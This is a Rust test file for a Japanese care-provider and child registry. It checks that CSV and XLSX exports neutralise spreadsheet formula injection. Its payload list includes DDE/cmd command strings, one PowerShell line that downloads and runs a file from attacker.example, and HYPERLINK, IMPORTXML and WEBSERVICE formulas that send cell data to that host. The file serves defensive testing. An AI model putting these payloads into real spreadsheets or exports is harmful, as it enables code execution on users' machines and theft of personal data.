//! Formula injection (CSV/spreadsheet injection, CWE-1236): text a person typed into a provider
//! or a child must never reach a spreadsheet as something it runs. Payloads from the public
//! lists (OWASP "CSV Injection", PayloadsAllTheThings "CSV Injection", DDE and HYPERLINK
//! exfiltration examples) plus Japanese full-width forms and leading-whitespace variants go into
//! text fields, are exported through every CSV and XLSX export (internal CSV in UTF-8 with BOM
//! and Shift_JIS, internal XLSX, public CSV, the disaster roster's CSV and XLSX), and read back:
//! no CSV cell begins with a character a spreadsheet treats as a formula (even after leading
//! whitespace), and no XLSX cell is a formula; the text itself is kept.

use calamine::{Data, Reader};
use kakehashi::Registry;
use kakehashi::cases::RegisterChildRequest;
use kakehashi::disaster::{RosterFormat, RosterQuery, SaveDisasterProfileRequest};
use kakehashi::providers::export::{CsvEncoding, ExportFormat, ExportOptions};
use kakehashi::providers::{AddProviderRequest, ProviderDetail};
use serde_json::json;

use crate::support::{new_registry, stamp};

/// At least 50 payloads. Some contain a tab or line break inside; validation may trim the
/// outer whitespace of a field, which is fine: what is stored is what must be neutralised.
const PAYLOADS: &[&str] = &[
    // OWASP CSV Injection
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&A2,\"Error: please click\")",
    "=HYPERLINK(\"https://attacker.example\",\"詳細はこちら\")",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"A1\")",
    "=IMAGE(\"https://attacker.example/p.png\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=EXEC(\"calc.exe\")",
    "=SUM(A1:A10)",
    "=A1",
    "=1/0",
    "=INDIRECT(\"A1\")",
    "=CONCATENATE(A1,B1)",
    "=0x41",
    "=\"=1+1\"",
    "@SUM(1,1)",
    "@A1",
    "+A1",
    "-A1",
    "+81-48-000-0000",
    "-10",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t@SUM(1+1)",
    " =1+1",
    "  +cmd|' /C calc'!A0",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    // Full-width forms (Japanese IMEs produce these; Excel's Japanese edition reads them as
    // operators when a cell is entered)
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "＝HYPERLINK(\"http://attacker.example\")",
    "＝cmd|' /C calc'!A0",
    "\u{3000}＝1+1",
    // Japanese text after the operator, as a typist would leave it
    "=川越市",
    "+訪問看護",
    "-サービス終了",
    "@担当者",
    "=\u{feff}1+1",
    "'=1+1",
    "=1+1\n=2+2",
    "=1+1,=2+2",
    "=1+1;=2+2",
];

/// What a spreadsheet may start a formula with, ASCII or full-width.
fn dangerous(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠'
    )
}

/// A CSV cell is safe when neither its first character nor its first one after leading
/// whitespace is one a spreadsheet runs.
fn unsafe_cell(cell: &str) -> bool {
    cell.chars().next().is_some_and(dangerous)
        || cell
            .trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}')
            .chars()
            .next()
            .is_some_and(dangerous)
}

fn provider_with(i: usize, payload: &str) -> AddProviderRequest {
    serde_json::from_value(json!({
        "provider": {
            "kind": "visiting_nursing",
            "name": format!("{payload}"),
            "kana": "カキクケコ",
            "address": payload,
            "municipality_code": "112011",
            "lat": 35.9, "lon": 139.48,
            "contact_person": payload,
            "opening_hours": payload,
            "business_number": format!("98{i:08}"),
            "capacity": null,
            "last_verified_on": null,
            "conditions": {"accepts_children": "yes"},
            "publication": {"name": true, "address": true, "phone": true, "contact_person": true,
                            "conditions": true, "consented_on": "2026-10-01"}
        },
        "answered_on": "2026-11-01"
    }))
    .expect("provider request")
}

fn child_with(payload: &str) -> RegisterChildRequest {
    serde_json::from_value(json!({
        "child": {
            "case_number": null,
            "name": payload,
            "kana": "カキクケコ",
            "date_of_birth": "2025-05-10",
            "sex": "female",
            "residence": {"postal_code": "350-1124", "address": payload,
                          "municipality_code": "112011", "lat": null, "lon": null},
            "guardians": [{"name": payload, "relation": "母", "phone_primary": "090-1111-2222"}],
            "severe_factors": {},
            "care_items": [{"code": "ventilator", "supervision": "high", "details": {},
                            "start_date": null, "end_date": null}],
            "consent": {"given_on": "2026-10-01", "scope": ["care_team"], "note": ""},
            "coordinator": payload
        },
        "status": "at_home",
        "confirmed_not_duplicate": true
    }))
    .expect("child request")
}

/// Decodes a CSV export (UTF-8 with BOM, or Shift_JIS) and returns its cells.
fn csv_cells(bytes: &[u8], encoding: CsvEncoding) -> Vec<String> {
    let text = match encoding {
        CsvEncoding::Utf8Bom => {
            let body = bytes
                .strip_prefix("\u{feff}".as_bytes())
                .expect("UTF-8 exports start with a BOM");
            String::from_utf8(body.to_vec()).expect("UTF-8")
        }
        CsvEncoding::ShiftJis => {
            let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(bytes);
            assert!(!bad, "the Shift_JIS export decodes");
            text.into_owned()
        }
    };
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.expect("the export is well-formed CSV")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Every cell of every sheet of a workbook, after checking none is a formula.
fn xlsx_cells(bytes: Vec<u8>, what: &str) -> Vec<Data> {
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a workbook");
    let mut cells = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("formulas readable");
        let found: Vec<&String> = formulas.used_cells().map(|(_, _, f)| f).collect();
        assert!(
            found.is_empty(),
            "{what}: sheet {name} holds formulas: {found:?}"
        );
        let range = book.worksheet_range(&name).expect("sheet readable");
        cells.extend(range.used_cells().map(|(_, _, d)| d.clone()));
    }
    cells
}

/// The stored form of each payload (what validation kept), for finding it in the outputs.
struct Stored {
    payload: &'static str,
    kept: String,
}

fn add_providers(registry: &mut Registry) -> (Vec<Stored>, usize) {
    let mut stored = Vec::new();
    let mut refused = 0;
    for (i, payload) in PAYLOADS.iter().enumerate() {
        match registry.add_provider(&provider_with(i, payload), &stamp()) {
            Ok(ProviderDetail { provider, .. }) => stored.push(Stored {
                payload,
                kept: provider.name,
            }),
            Err(e) => {
                eprintln!("provider refused {payload:?}: {e}");
                refused += 1;
            }
        }
    }
    (stored, refused)
}

fn export(
    registry: &Registry,
    public: bool,
    format: ExportFormat,
    encoding: CsvEncoding,
) -> Vec<u8> {
    let mut out = Vec::new();
    registry
        .export_providers(
            &ExportOptions {
                public,
                encoding,
                format,
            },
            &stamp(),
            &mut out,
        )
        .expect("export");
    out
}

fn check_csv(what: &str, cells: &[String], stored: &[Stored]) {
    let bad: Vec<&String> = cells.iter().filter(|c| unsafe_cell(c)).collect();
    assert!(
        bad.is_empty(),
        "{what}: cells a spreadsheet would run: {bad:?}"
    );
    for s in stored {
        // Shift_JIS has no BOM or NBSP: those become numeric references there.
        if what.contains("ShiftJis") && encoding_rs::SHIFT_JIS.encode(&s.kept).2 {
            continue;
        }
        assert!(
            cells.iter().any(|c| c.ends_with(s.kept.as_str())),
            "{what}: the text of {:?} is kept (after its guard)",
            s.payload
        );
    }
}

fn check_xlsx(what: &str, cells: &[Data], stored: &[Stored]) {
    for s in stored {
        assert!(
            cells
                .iter()
                .any(|d| matches!(d, Data::String(t) if *t == s.kept)),
            "{what}: {:?} is a string cell with its text unchanged",
            s.payload
        );
    }
}

#[test]
fn formula_payloads_in_providers_never_reach_a_spreadsheet_as_formulas() {
    assert!(PAYLOADS.len() >= 50, "at least 50 payloads");
    let (_dir, _vault, mut registry) = new_registry();
    let (stored, refused) = add_providers(&mut registry);
    assert!(
        stored.len() >= 50,
        "at least 50 payloads were accepted as text: {} stored, {refused} refused",
        stored.len()
    );
    for encoding in [CsvEncoding::Utf8Bom, CsvEncoding::ShiftJis] {
        for public in [false, true] {
            let bytes = export(&registry, public, ExportFormat::Csv, encoding);
            let what = format!("provider CSV public={public} {encoding:?}");
            check_csv(&what, &csv_cells(&bytes, encoding), &stored);
        }
    }
    let cells = xlsx_cells(
        export(&registry, false, ExportFormat::Xlsx, CsvEncoding::Utf8Bom),
        "provider XLSX",
    );
    check_xlsx("provider XLSX", &cells, &stored);
    println!(
        "formula injection (providers): {} payloads, {} stored and neutralised in 4 CSV exports and XLSX, {refused} refused at entry",
        PAYLOADS.len(),
        stored.len()
    );
}

#[test]
fn formula_payloads_in_children_never_reach_the_roster_as_formulas() {
    let (dir, _vault, mut registry) = new_registry();
    let mut stored = Vec::new();
    let mut refused = 0;
    for payload in PAYLOADS {
        match registry.register_child(&child_with(payload), &stamp()) {
            Ok(child) => {
                let profile: SaveDisasterProfileRequest = serde_json::from_value(json!({
                    "child_id": child.id,
                    "row_version": 0,
                    "profile": {
                        "evacuation_site": payload,
                        "emergency_hospital": payload,
                        "contacts": [{"name": payload, "relation": "祖母", "phone": "090-3333-4444"}],
                        "note": payload
                    }
                }))
                .expect("profile request");
                if let Err(e) = registry.save_disaster_profile(&profile, &stamp()) {
                    eprintln!("disaster profile refused {payload:?}: {e}");
                }
                stored.push(Stored {
                    payload,
                    kept: child.child.name,
                });
            }
            Err(e) => {
                eprintln!("child refused {payload:?}: {e}");
                refused += 1;
            }
        }
    }
    assert!(
        stored.len() >= 50,
        "at least 50 payloads were accepted: {} stored, {refused} refused",
        stored.len()
    );
    for (format, encoding) in [
        (RosterFormat::Csv, CsvEncoding::Utf8Bom),
        (RosterFormat::Csv, CsvEncoding::ShiftJis),
        (RosterFormat::Xlsx, CsvEncoding::Utf8Bom),
    ] {
        let path = dir
            .path()
            .join(format!("roster-{encoding:?}.{}", format.extension()));
        let listed = registry
            .export_roster(&RosterQuery::default(), format, encoding, &path, &stamp())
            .expect("roster export");
        assert_eq!(
            listed as usize,
            stored.len(),
            "every child at home is listed"
        );
        let bytes = std::fs::read(&path).unwrap();
        let what = format!("roster {format:?} {encoding:?}");
        if format == RosterFormat::Csv {
            check_csv(&what, &csv_cells(&bytes, encoding), &stored);
        } else {
            check_xlsx(&what, &xlsx_cells(bytes, &what), &stored);
        }
    }
    println!(
        "formula injection (children, disaster roster): {} payloads, {} stored and neutralised in 2 CSV and 1 XLSX, {refused} refused at entry",
        PAYLOADS.len(),
        stored.len()
    );
}
